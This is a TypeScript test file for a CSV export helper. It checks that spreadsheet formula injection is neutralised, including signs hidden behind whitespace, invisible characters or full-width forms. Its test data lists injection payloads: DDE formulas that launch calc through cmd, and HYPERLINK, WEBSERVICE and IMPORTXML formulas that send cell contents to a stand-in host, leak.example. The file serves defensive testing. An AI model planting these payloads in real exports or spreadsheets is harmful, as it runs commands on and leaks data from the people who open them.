import assert from 'node:assert/strict'
import { test } from 'node:test'
import { parse } from 'csv-parse/sync'
import fc from 'fast-check'
import { csvCell, csvLine } from '#core/csv'

const signs = ['=', '+', '-', '@', '＝', '＋', '－', '＠', '−']
const hides = ['', ' ', '\t', '\r', '\n', '\u0000', '\ufeff', '\u200b', '\u202e', '　', '\r\n', ' \t']
const bodies = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("http://leak.example/?"&A1,"開く")',
  'WEBSERVICE("http://leak.example/"&B2)',
  'IMPORTXML(CONCAT("http://leak.example/",A1),"//a")',
  'DDE("cmd","/C calc","x")',
  "SUM(1+1)*cmd|' /C calc'!A0",
  "2+5+cmd|' /C calc'!A0",
  'A1&""',
  '"";""',
]

test('no cell of the corpus begins as a formula, however it is hidden', () => {
  let tried = 0
  for (const sign of signs)
    for (const hide of hides)
      for (const body of bodies) {
        const [[read]] = parse(csvLine([`${hide}${sign}${body}`, 'next']), { relax_column_count: true }) as [[string]]
        assert.equal(read[0], "'", JSON.stringify(`${hide}${sign}${body}`))
        tried++
      }
  assert.ok(tried >= 1000)
})

test('whatever is written is read back, and no text breaks out of its cell', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2, maxLength: 5 }), (values) => {
      const [read] = parse(csvLine(values)) as string[][]
      assert.equal(read?.length, values.length)
      for (const [at, value] of values.entries()) assert.ok(read?.[at] === value || read?.[at] === `'${value}`)
    }),
  )
})

test('numbers stay numbers, nothing stays empty', () => {
  assert.equal(csvLine([-5, 0.5, null, undefined, true, '縁']), '-5,0.5,,,true,縁\r\n')
  assert.equal(csvCell('普通の文'), '普通の文')
})
